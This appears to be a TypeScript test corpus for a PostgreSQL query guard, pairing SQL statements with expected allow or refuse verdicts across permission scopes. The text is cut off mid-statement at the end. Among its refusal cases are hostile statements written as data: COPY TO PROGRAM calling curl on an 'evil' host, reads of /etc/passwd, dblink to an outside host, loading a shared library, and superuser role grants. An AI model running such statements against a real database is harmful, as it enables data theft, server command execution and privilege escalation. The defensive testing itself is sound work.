import type { RuleId } from "../src/index.js";
import type { ScopeName } from "./support/scopes.js";

/**
 * The attack corpus. Every case is one of two kinds of attack on a naive guard:
 *  - "ok"   : a legitimate query a keyword/regex guard would wrongly refuse (keywords inside strings
 *             and identifiers, CTEs, window functions, EXPLAIN of a read, catalog browsing...);
 *  - a rule : a bypass a naive guard would let through (hidden columns via *, whole-row values,
 *             NATURAL joins, views and functions over hidden tables, catalog reads, writes hidden
 *             in CTEs, session tricks, server escapes...).
 * The expected rule id is part of the contract (it lands in the audit log).
 */
export type Expect = "ok" | RuleId;
export interface Case {
  scope: ScopeName;
  sql: string;
  expect: Expect;
}

const cases: Case[] = [];
function on(scopes: ScopeName | ScopeName[], expect: Expect, ...sqls: string[]): void {
  for (const scope of Array.isArray(scopes) ? scopes : [scopes]) for (const sql of sqls) cases.push({ scope, sql, expect });
}
const SCOPE_NAMES: ScopeName[] = ["read", "open", "write", "full", "custom", "adminHiding"];
/**
 * Universal refusals (same verdict under every scope): each statement runs under two scopes, rotated,
 * so every scope sees every kind without multiplying the corpus fivefold.
 */
let rotation = 0;
function onAll(expect: Expect, ...sqls: string[]): void {
  for (const sql of sqls) {
    for (let k = 0; k < 2; k++) cases.push({ scope: SCOPE_NAMES[(rotation + k) % SCOPE_NAMES.length]!, sql, expect });
    rotation++;
  }
}
const READERS: ScopeName[] = ["read", "open", "write", "full"]; // scopes that can read the Chinook music tables

// ------------------------------------------------------------------ legit reads a naive guard refuses
on(READERS, "ok",
  "SELECT title FROM album WHERE title ILIKE '%delete%'",
  "SELECT 'DROP TABLE album; --' AS prank",
  "SELECT name AS \"update\", 1 AS \"insert\" FROM artist",
  "select a.title, ar.name from album a join artist ar on ar.artist_id = a.artist_id order by 1 limit 5",
  "WITH top AS (SELECT album_id, count(*) n FROM track GROUP BY album_id) SELECT a.title, top.n FROM top JOIN album a USING (album_id) ORDER BY n DESC LIMIT 10",
  "SELECT name, row_number() OVER (PARTITION BY genre_id ORDER BY milliseconds DESC) AS rn FROM track",
  "SELECT genre_id, avg(milliseconds) FILTER (WHERE milliseconds > 1000) FROM track GROUP BY ROLLUP (genre_id)",
  "EXPLAIN SELECT * FROM track WHERE album_id = 1",
  "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM album",
  "SELECT * FROM album a WHERE EXISTS (SELECT * FROM track t WHERE t.album_id = a.album_id)",
  "SELECT title FROM album UNION SELECT name FROM artist ORDER BY 1",
  "SELECT name FROM artist INTERSECT SELECT name FROM artist",
  "TABLE album",
  "SELECT * FROM ONLY album",
  "SELECT count(*), max(milliseconds) FROM track",
  "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n",
  "SELECT t.name FROM track t WHERE t.genre_id IN (SELECT genre_id FROM genre WHERE name = 'Rock')",
  "SELECT x.title FROM (SELECT title FROM album) x",
  "SELECT \"album\".\"title\" FROM \"album\"",
  "SELECT public.album.title FROM public.album",
  "SELECT ALBUM.TITLE FROM ALBUM",
  "SELECT title FROM album -- delete from album\n",
  "SELECT /* insert into album */ title FROM album",
  "SELECT $$; DELETE FROM album; $$ AS text",
  "SELECT E'\\'; drop table album' AS s",
  "SELECT g.i, g.i * 2 FROM generate_series(1, 5) AS g(i)",
  "SELECT lower(name), upper(name), length(name), now(), current_date FROM artist LIMIT 3",
  "SELECT to_char(now(), 'YYYY-MM-DD'), date_trunc('month', now())",
  "SELECT json_agg(a) FROM (SELECT album_id, title FROM album LIMIT 3) a",
  "SELECT row_to_json(a) FROM album a LIMIT 1",
  "SELECT a FROM album a LIMIT 1",
  "SELECT jsonb_build_object('id', album_id, 'title', title) FROM album",
  "SELECT string_agg(name, ', ' ORDER BY name) FROM genre",
  "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY milliseconds) FROM track",
  "SELECT a.title FROM album a NATURAL JOIN artist",
  "SELECT title FROM album a JOIN artist USING (artist_id)",
  "SELECT coalesce(composer, 'unknown'), nullif(bytes, 0), greatest(1, 2), CASE WHEN bytes > 0 THEN 'y' ELSE 'n' END FROM track",
  "SELECT count(DISTINCT genre_id) FROM track",
  "SELECT DISTINCT ON (album_id) album_id, name FROM track ORDER BY album_id, milliseconds DESC",
  "SELECT name FROM track WHERE name ~* 'love' LIMIT 5",
  "SELECT * FROM album LIMIT 10 OFFSET 5",
  "SELECT t.name, lag(t.name) OVER w FROM track t WINDOW w AS (ORDER BY t.track_id)",
  "SELECT 1; SELECT 2",
  "SELECT title, (SELECT name FROM artist ar WHERE ar.artist_id = al.artist_id) FROM album al",
  "SELECT name FROM artist WHERE artist_id = ANY (ARRAY[1, 2, 3])",
  "SELECT album_id FROM album WHERE title IS NOT DISTINCT FROM 'x'",
  "SELECT sum(unit_price * quantity) FROM invoice_line",
  "SELECT date_part('year', invoice_date), sum(total) FROM invoice GROUP BY 1 ORDER BY 1",
  "SELECT billing_country, count(*) FROM invoice GROUP BY billing_country HAVING count(*) > 5",
  "SELECT * FROM invoice_totals ORDER BY total DESC LIMIT 3",
  "SELECT x FROM unnest(ARRAY[1,2]) AS x",
  "SELECT CAST('2024-01-01' AS date) + 1",
  "SELECT '1 day'::interval, 'abc'::text, 42::bigint",
  "SELECT track_id FROM playlist_track pt WHERE NOT EXISTS (SELECT 1 FROM track t WHERE t.track_id = pt.track_id)",
  "VALUES (1, 'a'), (2, 'b')",
  "SHOW statement_timeout",
  "SELECT name FROM genre ORDER BY name COLLATE \"C\"",
  "SELECT add_one(1)",
  "SELECT * FROM customer_names LIMIT 1",
  "SELECT random(), gen_random_uuid()",
  "SELECT md5(title), encode(sha256(title::bytea), 'hex') FROM album LIMIT 1",
  "SELECT 'users'::text, 'pg_sleep'::text",
  "SELECT format('%s-%s', album_id, title) FROM album LIMIT 2",
  "SELECT currval IS NULL FROM (SELECT NULL::bigint AS currval) s",
);
on(["read", "open", "full"], "ok", "SELECT * FROM sales.region", "SELECT r.name FROM sales.region r ORDER BY 1");

// ------------------------------------------------------------------ hidden tables (the read scope hides employee, hr.*, audit_log)
on("read", "undefined_table",
  "SELECT * FROM employee",
  "SELECT first_name FROM employee",
  "SELECT * FROM public.employee",
  "SELECT * FROM \"employee\"",
  "SELECT * FROM EMPLOYEE",
  "SELECT count(*) FROM employee",
  "SELECT c.first_name FROM customer c JOIN employee e ON e.employee_id = c.support_rep_id",
  "SELECT * FROM album WHERE EXISTS (SELECT 1 FROM employee)",
  "SELECT (SELECT max(employee_id) FROM employee)",
  "WITH e AS (SELECT * FROM employee) SELECT count(*) FROM e",
  "SELECT * FROM album UNION ALL SELECT employee_id, last_name, 1 FROM employee",
  "SELECT * FROM hr.salary",
  "SELECT amount FROM hr.salary WHERE employee_id = 1",
  "SELECT * FROM employee_directory",
  "SELECT employee_id FROM employee_directory",
  "SELECT * FROM customer_contacts",
  "SELECT customer_id FROM customer_contacts",
  "SELECT * FROM nested_contacts",
  "SELECT * FROM audit_log",
  "SELECT * FROM chinook.public.employee",
  "SELECT 'employee'::regclass",
  "SELECT 'public.employee'::regclass::oid",
  "SELECT 'hr.salary'::regclass",
  "EXPLAIN SELECT * FROM employee",
  "SELECT * FROM LATERAL (SELECT * FROM employee) e",
  "SELECT * FROM album a, LATERAL (SELECT 1 FROM employee e WHERE e.employee_id = a.album_id) x",
  "SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT 1 FROM employee) a) b) c",
  "SELECT * FROM nonexistent_table",
  "SELECT * FROM public.nonexistent_table",
);
on("custom", "undefined_table",
  "SELECT * FROM customer",
  "SELECT * FROM invoice",
  "SELECT * FROM employee",
  "SELECT * FROM media_type",
  "SELECT t.name FROM track t JOIN genre g USING (genre_id) JOIN media_type m USING (media_type_id)",
  "SELECT * FROM sales.region",
  "SELECT * FROM customer_names",
  "SELECT * FROM invoice_totals",
  "SELECT 'customer'::regclass",
  "SELECT * FROM album WHERE album_id IN (SELECT album_id FROM invoice_line)",
);
on("write", "undefined_table",
  "SELECT * FROM sales.region",
  "SELECT * FROM employee",
  "UPDATE employee SET title = 'x'",
  "DELETE FROM employee",
  "INSERT INTO employee (employee_id, last_name, first_name) VALUES (99, 'x', 'y')",
  "UPDATE invoice SET total = 0 FROM employee e WHERE e.employee_id = invoice.customer_id",
  "DELETE FROM invoice USING employee WHERE employee.employee_id = invoice.customer_id",
  "INSERT INTO invoice_line SELECT employee_id, 1, 1, 1, 1 FROM employee",
  "MERGE INTO invoice i USING employee e ON i.customer_id = e.employee_id WHEN MATCHED THEN DELETE",
);

// ------------------------------------------------------------------ hidden columns (read: customer.email/phone/address/fax; custom: track.unit_price/bytes)
on(["read", "write"], "undefined_column",
  "SELECT email FROM customer",
  "SELECT c.email FROM customer c",
  "SELECT customer.email FROM customer",
  "SELECT public.customer.email FROM customer",
  "SELECT first_name FROM customer WHERE email LIKE '%@gmail.com'",
  "SELECT first_name FROM customer ORDER BY email",
  "SELECT count(*) FROM customer GROUP BY email",
  "SELECT first_name FROM customer WHERE EXISTS (SELECT 1 WHERE email IS NOT NULL)",
  "SELECT (SELECT email) FROM customer",
  "SELECT lower(email) FROM customer",
  "SELECT first_name, rank() OVER (ORDER BY email) FROM customer",
  "SELECT first_name FROM customer c1 WHERE c1.email = 'a@b.c'",
  "SELECT first_name FROM customer HAVING max(email) > ''",
  "SELECT x.email FROM (SELECT c.email FROM customer c) x",
  "WITH c AS (SELECT email FROM customer) SELECT * FROM c",
  "SELECT first_name FROM customer WHERE \"email\" IS NULL",
  "SELECT i.total FROM invoice i JOIN customer c ON c.email = i.billing_address",
  "SELECT count(*) FROM customer WHERE length(email) > 3",
  "SELECT a.x FROM customer AS a(x, y, z, q, r, s, t, u, v, w, f, emailish) WHERE a.x > 0 AND a.emailish IS NULL",
);
on("read", "undefined_column",
  "SELECT phone FROM customer",
  "SELECT first_name FROM customer WHERE address LIKE '1%'",
  "SELECT customer_id, fax FROM customer",
  "SELECT first_name FROM customer c JOIN invoice i USING (customer_id) WHERE c.phone IS NOT NULL",
  "SELECT first_name FROM customer WHERE (phone, email) IS NOT NULL",
  "SELECT c.first_name FROM customer c JOIN album a USING (email)",
  "SELECT c.first_name FROM customer c JOIN invoice i ON c.nonexistent_column = 1",
  "SELECT nonexistent_column FROM customer",
);
on("custom", "undefined_column",
  "SELECT unit_price FROM track",
  "SELECT name FROM track WHERE bytes > 1000",
  "SELECT sum(unit_price) FROM track",
  "SELECT name FROM track ORDER BY unit_price DESC",
  "SELECT t.name FROM track t WHERE t.unit_price > 0.99",
  "SELECT name FROM track GROUP BY name HAVING max(bytes) > 0",
  "SELECT name, avg(bytes) OVER () FROM track",
);

// ------------------------------------------------------------------ wildcards, whole rows and NATURAL over hidden columns
on(["read", "write"], "hidden_columns_wildcard",
  "SELECT * FROM customer",
  "SELECT c.* FROM customer c",
  "SELECT customer.* FROM customer",
  "TABLE customer",
  "SELECT row_to_json(c) FROM customer c",
  "SELECT row_to_json(c.*) FROM customer c",
  "SELECT to_jsonb(customer) FROM customer",
  "SELECT c FROM customer c",
  "SELECT customer FROM customer",
  "SELECT ROW(c.*) FROM customer c",
  "SELECT (c).customer_id FROM customer c",
  "SELECT json_agg(c) FROM customer c",
  "SELECT c::text FROM customer c",
  "SELECT hashtext(c::text) FROM customer c",
  "SELECT count(c.*) FROM customer c",
  "SELECT * FROM customer NATURAL JOIN invoice",
  "SELECT * FROM (SELECT * FROM customer) x",
  "SELECT first_name FROM (SELECT * FROM customer) x",
  "WITH x AS (SELECT * FROM customer) SELECT first_name FROM x",
  "SELECT * FROM customer c JOIN invoice i USING (customer_id)",
  "SELECT i.*, c.* FROM invoice i JOIN customer c USING (customer_id)",
  "SELECT * FROM album a WHERE EXISTS (SELECT * FROM customer GROUP BY 12)",
  "SELECT 1 FROM invoice i WHERE EXISTS (SELECT * FROM customer c WHERE c.customer_id = i.customer_id)",
  "SELECT 1 WHERE (SELECT c FROM customer c LIMIT 1) IS NOT NULL",
  "SELECT first_name FROM customer c WHERE c = c",
  "SELECT DISTINCT * FROM customer",
  "SELECT * FROM customer UNION SELECT * FROM customer",
);
on("read", "hidden_columns_wildcard",
  "SELECT * FROM customer a NATURAL JOIN customer b",
);
on("custom", "hidden_columns_wildcard",
  "SELECT * FROM track",
  "SELECT t.* FROM track t",
  "SELECT row_to_json(t) FROM track t",
  "SELECT * FROM album NATURAL JOIN track",
  "TABLE track",
  "SELECT * FROM artist a JOIN track t ON true",
  "SELECT * FROM album a WHERE EXISTS (SELECT * FROM track t WHERE t.album_id = a.album_id)",
);
on("write", "hidden_columns_wildcard",
  "UPDATE customer SET first_name = 'x' RETURNING *",
  "DELETE FROM customer WHERE customer_id = -1 RETURNING customer",
);
// customer.email is NOT NULL without a default and hidden on the write link: no insert can succeed.
on("write", "hidden_required_column",
  "INSERT INTO customer VALUES (100, 'a', 'b')",
  "INSERT INTO customer SELECT * FROM customer",
  "MERGE INTO customer c USING invoice i ON c.customer_id = i.customer_id WHEN NOT MATCHED THEN INSERT VALUES (1, 'a', 'b')",
  "INSERT INTO customer (customer_id, first_name, last_name) VALUES (-1, 'a', 'b') ON CONFLICT (customer_id) DO UPDATE SET first_name = excluded.first_name",
  "INSERT INTO customer (customer_id, first_name, last_name) SELECT -2, first_name, last_name FROM customer WHERE customer_id = 1",
);
on("write", "hidden_columns_wildcard", "INSERT INTO invoice_line SELECT * FROM customer");
// Hidden columns are fine when the wildcard's columns are never produced.
on(["read", "write"], "ok",
  "SELECT count(*) FROM customer",
  "SELECT first_name FROM album a, customer c WHERE EXISTS (SELECT 1 FROM customer c2 WHERE c2.customer_id = c.customer_id) LIMIT 1",
  "SELECT c.first_name, i.total FROM customer c JOIN invoice i USING (customer_id)",
  "SELECT first_name AS email FROM customer ORDER BY email",
  "SELECT customer_id, first_name, last_name, country FROM customer WHERE country = 'Brazil'",
  "SELECT c.first_name FROM customer c WHERE c.customer_id IN (SELECT customer_id FROM invoice WHERE total > 10)",
  "SELECT row_to_json(x) FROM (SELECT first_name, last_name FROM customer) x",
  "SELECT x FROM (SELECT first_name FROM customer) x",
  "SELECT json_agg(json_build_object('name', first_name)) FROM customer",
  "SELECT country, count(*) FROM customer GROUP BY country ORDER BY 2 DESC",
  "SELECT i.* FROM invoice i JOIN customer c ON c.customer_id = i.customer_id",
  "SELECT first_name FROM customer WHERE 'email' = 'email'",
  "SELECT 'email' AS email, first_name FROM customer",
);
on("custom", "ok",
  "SELECT name, milliseconds FROM track WHERE album_id = 1",
  "SELECT a.title, t.name FROM album a JOIN track t ON t.album_id = a.album_id",
  "SELECT * FROM album",
  "SELECT * FROM artist NATURAL JOIN album",
  "SELECT ar.name, count(*) FROM artist ar JOIN album al USING (artist_id) GROUP BY ar.name",
  "SELECT count(*) FROM track",
  "SELECT track_id, name FROM track ORDER BY milliseconds DESC LIMIT 10",
  "SELECT name AS unit_price FROM track ORDER BY unit_price",
  "INSERT INTO playlist (playlist_id, name) VALUES (100, 'mine')",
  "UPDATE playlist SET name = 'x' WHERE playlist_id = 100",
  "DELETE FROM playlist WHERE playlist_id = 100",
  "CREATE INDEX genre_name_idx ON genre (name)",
  "ALTER TABLE genre ADD COLUMN description text",
  "EXPLAIN SELECT * FROM album",
  "SELECT title FROM album WHERE title LIKE '%; DROP TABLE album%'",
);

// ------------------------------------------------------------------ writes
on(["read", "open"], "write_not_permitted",
  "INSERT INTO album (album_id, title, artist_id) VALUES (1000, 'x', 1)",
  "UPDATE album SET title = 'x' WHERE album_id = 1",
  "DELETE FROM album WHERE album_id = 1",
  "DELETE FROM album",
  "MERGE INTO album a USING artist ar ON a.artist_id = ar.artist_id WHEN MATCHED THEN UPDATE SET title = ar.name",
  "INSERT INTO genre (genre_id, name) SELECT genre_id + 100, name FROM genre",
  "INSERT INTO genre (genre_id, name) VALUES (500, 'x') ON CONFLICT (genre_id) DO UPDATE SET name = excluded.name",
  "UPDATE track SET unit_price = 0 RETURNING track_id",
  "INSERT INTO customer_names (customer_id, first_name, last_name) VALUES (1, 'a', 'b')",
  "SELECT 1; DELETE FROM album",
);
on("open", "write_not_permitted", "INSERT INTO pg_catalog.pg_class DEFAULT VALUES", "DELETE FROM pg_catalog.pg_proc");
on("custom", "write_not_permitted", "INSERT INTO album (album_id, title, artist_id) VALUES (1000, 'x', 1)", "UPDATE track SET name = 'x'", "DELETE FROM artist");
on("write", "write_not_permitted",
  "INSERT INTO album (album_id, title, artist_id) VALUES (1000, 'x', 1)",
  "UPDATE track SET name = 'x'",
  "DELETE FROM genre",
  "MERGE INTO album a USING invoice i ON a.album_id = i.invoice_id WHEN MATCHED THEN DELETE",
  "UPDATE invoice SET total = 1 WHERE invoice_id = 1; UPDATE album SET title = 'x'",
  "INSERT INTO customer_names (customer_id, first_name, last_name) VALUES (1, 'a', 'b')",
);
on("write", "ok",
  "INSERT INTO invoice (invoice_id, customer_id, invoice_date, total) VALUES (1000, 1, now(), 9.99)",
  "UPDATE invoice SET total = total * 1.1 WHERE invoice_id = 1 RETURNING invoice_id, total",
  "DELETE FROM invoice_line WHERE invoice_line_id = -1",
  "INSERT INTO invoice_line (invoice_line_id, invoice_id, track_id, unit_price, quantity) SELECT 9000 + track_id, 1, track_id, unit_price, 1 FROM track WHERE album_id = 1",
  "UPDATE customer SET first_name = 'x' WHERE customer_id = -1 RETURNING customer_id, first_name",
  "MERGE INTO invoice i USING (SELECT 1 AS id) s ON i.invoice_id = s.id WHEN MATCHED THEN UPDATE SET total = i.total WHEN NOT MATCHED THEN DO NOTHING",
  "WITH gone AS (DELETE FROM invoice_line WHERE invoice_line_id = -1 RETURNING invoice_line_id) SELECT count(*) FROM gone",
  "WITH moved AS (DELETE FROM invoice_line WHERE invoice_line_id = -1 RETURNING *) INSERT INTO invoice_line SELECT * FROM moved",
  "UPDATE invoice i SET total = 0 FROM customer c WHERE c.customer_id = i.customer_id AND c.country = 'Nowhere'",
  "SELECT nextval('ticket_seq')",
  "EXPLAIN UPDATE invoice SET total = 0",
  "DELETE FROM invoice WHERE invoice_id = -1 RETURNING *",
  "INSERT INTO invoice_line VALUES (-5, 1, 1, 1, 1)",
);
on("write", "undefined_column",
  "UPDATE customer SET email = 'x@y.z' WHERE customer_id = 1",
  "UPDATE customer SET (first_name, email) = ('a', 'b') WHERE customer_id = -1",
  "UPDATE customer SET first_name = 'x' WHERE customer_id = 1 RETURNING email",
  "UPDATE customer SET first_name = email",
  "UPDATE customer c SET first_name = i.billing_city FROM invoice i WHERE i.customer_id = c.customer_id AND c.email IS NULL",
  "DELETE FROM customer WHERE email = 'a@b.c'",
);

// ------------------------------------------------------------------ data-modifying CTEs, SELECT INTO, locking, EXPLAIN ANALYZE
on(["read", "open", "custom"], "data_modifying_cte",
  "WITH d AS (DELETE FROM album RETURNING *) SELECT * FROM d",
  "WITH u AS (UPDATE artist SET name = 'x' RETURNING artist_id) SELECT count(*) FROM u",
  "WITH i AS (INSERT INTO artist (artist_id, name) VALUES (9999, 'x') RETURNING 1) SELECT * FROM i",
  "WITH x AS (SELECT 1), d AS (DELETE FROM artist WHERE false RETURNING 1) SELECT * FROM x",
);
on("write", "data_modifying_cte", "WITH d AS (DELETE FROM album RETURNING album_id) SELECT * FROM d");
onAll("select_into", "SELECT * INTO new_album FROM album", "SELECT 1 AS x INTO TEMP t");
// Row locks are writes allowed where the link may write every locked table (issue 14, block at the end);
// these are refused under every scope.
onAll("row_locking",
  "SELECT title FROM album UNION SELECT name FROM artist FOR UPDATE",
  "SELECT datname FROM pg_database FOR SHARE SKIP LOCKED",
  "SELECT a.title FROM album a, pg_database d FOR NO KEY UPDATE NOWAIT",
  "SELECT * FROM (SELECT datname FROM pg_database FOR UPDATE) x",
);
on(["read", "open", "custom"], "explain_analyze",
  "EXPLAIN ANALYZE DELETE FROM playlist_track WHERE false",
  "EXPLAIN (ANALYZE) UPDATE genre SET name = name",
  "EXPLAIN (ANALYZE true, FORMAT JSON) INSERT INTO genre (genre_id, name) VALUES (1000, 'x')",
);
on(["read"], "explain_analyze", "EXPLAIN ANALYZE DELETE FROM album");
on(["write"], "explain_analyze", "EXPLAIN ANALYZE DELETE FROM invoice_line WHERE false", "EXPLAIN ANALYZE WITH d AS (DELETE FROM invoice_line WHERE false RETURNING 1) SELECT * FROM d");
on(["read", "open"], "ok", "EXPLAIN (ANALYZE false) SELECT 1", "EXPLAIN (FORMAT JSON) SELECT * FROM album", "EXPLAIN (COSTS OFF) SELECT * FROM album a JOIN artist USING (artist_id)");

// ------------------------------------------------------------------ transaction control and session state: refused under every scope
onAll("transaction_control", "BEGIN", "COMMIT", "ROLLBACK", "START TRANSACTION READ WRITE", "SAVEPOINT s1", "RELEASE SAVEPOINT s1", "ROLLBACK TO SAVEPOINT s1", "SELECT 1; COMMIT; DELETE FROM album", "END", "PREPARE TRANSACTION 'x'", "ABORT");
onAll("session_state",
  "SET search_path = hr, public",
  "SET ROLE postgres",
  "SET SESSION AUTHORIZATION postgres",
  "RESET ROLE",
  "RESET ALL",
  "SET statement_timeout = 0",
  "SET LOCAL default_transaction_read_only = off",
  "SET TRANSACTION READ WRITE",
  "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
  "DISCARD ALL",
  "set search_path to \"$user\", hr",
);
onAll("dangerous_function",
  "SELECT set_config('search_path', 'hr', false)",
  "SELECT set_config('default_transaction_read_only', 'off', true)",
  "SELECT pg_catalog.set_config('role', 'postgres', false)",
  "SELECT pg_sleep(10)",
  "SELECT pg_sleep_for('1 hour')",
  "SELECT pg_catalog.pg_sleep(1)",
  "SELECT 1 FROM album WHERE pg_sleep(1) IS NULL",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_read_binary_file('postgresql.conf')",
  "SELECT * FROM pg_ls_dir('.')",
  "SELECT pg_stat_file('postgresql.conf')",
  "SELECT lo_import('/etc/passwd')",
  "SELECT lo_export(1234, '/tmp/x')",
  "SELECT lo_get(1234)",
  "SELECT lo_creat(-1)",
  "SELECT loread(lo_open(1, 262144), 100)",
  "SELECT pg_terminate_backend(1)",
  "SELECT pg_cancel_backend(pg_backend_pid())",
  "SELECT pg_reload_conf()",
  "SELECT pg_rotate_logfile()",
  "SELECT pg_advisory_lock(1)",
  "SELECT pg_try_advisory_lock(42)",
  "SELECT pg_advisory_xact_lock(1)",
  "SELECT pg_advisory_unlock_all()",
  "SELECT dblink('host=evil', 'select 1')",
  "SELECT * FROM dblink('dbname=postgres', 'select secret from t') AS t(x text)",
  "SELECT dblink_exec('dbname=postgres', 'drop table album')",
  "SELECT pg_notify('ch', 'payload')",
  "SELECT query_to_xml('select * from employee', true, false, '')",
  "SELECT table_to_xml('employee', true, false, '')",
  "SELECT database_to_xml(true, false, '')",
  "SELECT ts_stat('select to_tsvector(email) from customer')",
  "SELECT pg_switch_wal()",
  "SELECT pg_create_restore_point('x')",
  "SELECT pg_logical_emit_message(true, 'x', 'y')",
  "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
  "SELECT pg_backup_start('x')",
  "SELECT txid_current()",
  "SELECT title FROM album ORDER BY pg_sleep(0.1)",
  "SELECT count(*) FROM generate_series(1, 3) g WHERE pg_advisory_lock(g) IS NULL",
);
onAll("copy_program", "COPY album TO PROGRAM 'curl http://evil'", "COPY album FROM PROGRAM 'cat /etc/passwd'", "COPY album TO '/tmp/album.csv'", "COPY (SELECT 1) TO '/tmp/x'", "COPY album FROM '/etc/passwd'");
onAll("copy", "COPY album TO STDOUT", "COPY (SELECT * FROM album) TO STDOUT WITH CSV", "COPY album FROM STDIN");
on(["read", "open", "write", "custom", "adminHiding"], "do_block", "DO $$ BEGIN PERFORM pg_sleep(1); END $$", "DO 'BEGIN DELETE FROM album; END'");
onAll("prepared_statement", "PREPARE p AS DELETE FROM album", "EXECUTE p", "DEALLOCATE ALL", "PREPARE q(int) AS SELECT $1");
onAll("listen_notify", "LISTEN ch", "NOTIFY ch, 'x'", "UNLISTEN *");
onAll("lock_table", "LOCK TABLE album IN ACCESS EXCLUSIVE MODE");
onAll("maintenance", "VACUUM album", "ANALYZE album", "VACUUM FULL", "CLUSTER album", "REINDEX TABLE album", "CHECKPOINT");
onAll("load_library", "LOAD 'plpython3u'", "LOAD '/tmp/evil.so'");
onAll("alter_system", "ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM RESET ALL");
onAll("create_extension", "CREATE EXTENSION dblink", "CREATE EXTENSION IF NOT EXISTS adminpack", "ALTER EXTENSION plpgsql UPDATE", "CREATE LANGUAGE plperlu");
onAll("server_escape", "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", "CREATE USER MAPPING FOR CURRENT_USER SERVER evil", "CREATE DATABASE evil", "CREATE TABLESPACE t LOCATION '/tmp'", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p");
onAll("role_management", "CREATE ROLE evil SUPERUSER", "ALTER ROLE CURRENT_USER SUPERUSER", "GRANT ALL ON album TO PUBLIC", "REVOKE SELECT ON album FROM PUBLIC", "GRANT pg_read_server_files TO CURRENT_USER", "ALTER TABLE album OWNER TO postgres", "DROP ROLE x", "CREATE USER u PASSWORD 'p'", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", "REASSIGN OWNED BY CURRENT_USER TO postgres");
onAll("cursor", "DECLARE c CURSOR FOR SELECT * FROM album", "FETCH 10 FROM c", "CLOSE c");
on(["read", "write", "custom", "open"], "call_procedure", "CALL reset_genre()");
onAll("syntax_error", "SELEC * FROM album", "SELECT * FROM", "SELECT 'unterminated", "DELETE album", "SELECT 1 +", "INSERT INTO", "SELECT * FROM album WHERE (title = 'x'", ";;;SELECT FROM FROM");
onAll("empty_statement", ";", "  ", "-- just a comment");

// ------------------------------------------------------------------ functions
on(["read", "custom"], "function_unverified",
  "SELECT album_title(1)",
);
on(["read", "write"], "function_unverified",
  "SELECT employee_count()",
  "SELECT customer_email(1)",
  "SELECT definer_salary(1)",
  "SELECT title FROM album WHERE employee_count() > 0",
  "SELECT 1 === 1",
  "SELECT album_id FROM album WHERE album_id === 1",
);
on("custom", "undefined_function", "SELECT no_such_function(1)", "SELECT hr.anything(1)");
on("read", "undefined_function", "SELECT hr.whatever()", "SELECT no_such_function()");
on(["read", "open", "write", "custom"], "volatile_function", "SELECT bump_genre()", "SELECT * FROM album WHERE album_id = bump_genre()");
on(["read", "open", "custom"], "function_not_allowed",
  "SELECT pg_backend_pid()",
  "SELECT inet_client_addr()",
  "SELECT pg_current_wal_lsn()",
  "SELECT pg_is_in_recovery() , pg_blocking_pids(1)",
);
onAll("dangerous_function", "SELECT pg_stat_get_activity(NULL)", "SELECT pg_stat_get_backend_activity(1)");
on("custom", "undefined_table", "SELECT nextval('ticket_seq')");
on(["read", "open"], "sequence_manipulation",
  "SELECT nextval('ticket_seq')",
  "SELECT setval('ticket_seq', 1)",
  "SELECT nextval('public.ticket_seq'::regclass)",
  "SELECT setval(pg_get_serial_sequence('audit_log', 'id'), 1)",
);
on(["open", "full"], "ok",
  "SELECT employee_count()",
  "SELECT track_count(1)",
  "SELECT album_title(1)",
  "SELECT customer_email(1)",
  "SELECT 1 === 1",
  "SELECT * FROM employee_directory",
  "SELECT * FROM customer",
  "SELECT * FROM hr.salary",
  "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
  "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'album'",
  "SELECT relname, reltuples FROM pg_class WHERE relnamespace = 'public'::regnamespace",
  "SELECT * FROM pg_tables WHERE schemaname = 'public'",
  "SELECT attname FROM pg_attribute WHERE attrelid = 'album'::regclass AND attnum > 0",
  "SELECT pg_get_viewdef('customer_contacts'::regclass)",
  "SELECT obj_description('album'::regclass)",
  "SELECT pg_size_pretty(pg_total_relation_size('track'))",
  "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'track'::regclass",
  "SELECT schemaname, tablename, attname, n_distinct FROM pg_stats WHERE tablename = 'customer'",
  "SELECT to_regclass('employee') IS NOT NULL",
  "SELECT n.nspname FROM pg_namespace n",
  "SELECT * FROM note",
  "SELECT * FROM \"MixedCase\" WHERE \"Id\" = 1",
);
// Issue 14: on links that hide something, the virtual catalog answers catalog relations with the
// hidden objects removed (their equality with a copy where they are dropped is proven in
// virtual-catalog.int.test.ts); what it cannot answer safely is refused, and a hidden name is as
// absent as a missing one. These were all catalog_hidden before.
on(["read", "custom", "write"], "ok",
  "SELECT relname FROM pg_class",
  "SELECT * FROM pg_catalog.pg_class WHERE relname = 'employee'",
  "SELECT table_name FROM information_schema.tables",
  "SELECT column_name FROM information_schema.columns WHERE table_name = 'customer'",
  "SELECT * FROM pg_tables",
  "SELECT * FROM pg_views",
  "SELECT attname FROM pg_attribute",
  "SELECT most_common_vals FROM pg_stats WHERE attname = 'email'",
  "SELECT * FROM pg_stats",
  "SELECT * FROM pg_stat_user_tables",
  "SELECT * FROM pg_namespace",
  "SELECT proname, prosrc FROM pg_proc",
  "SELECT pg_get_functiondef(oid) FROM pg_proc",
  "SELECT c.oid::regclass FROM pg_class c",
  "SELECT * FROM information_schema.views",
  "SELECT * FROM information_schema.routines",
  "SELECT * FROM pg_description",
  "SELECT * FROM pg_depend",
  "SELECT * FROM pg_indexes",
  "SELECT * FROM pg_matviews",
  "SELECT * FROM pg_sequences",
);
on(["read", "custom", "write"], "catalog_hidden", "SELECT * FROM pg_statistic");
on(["read", "custom", "write"], "undefined_table",
  "SELECT pg_get_viewdef('employee_directory')",
  "SELECT has_table_privilege('employee', 'select')",
  "SELECT pg_relation_size('employee')",
);
on(["read", "custom", "write"], "catalog_unanswerable", "SELECT to_regclass('employee')", "SELECT obj_description(16384)", "SELECT 16385::regclass");
onAll("catalog_denied",
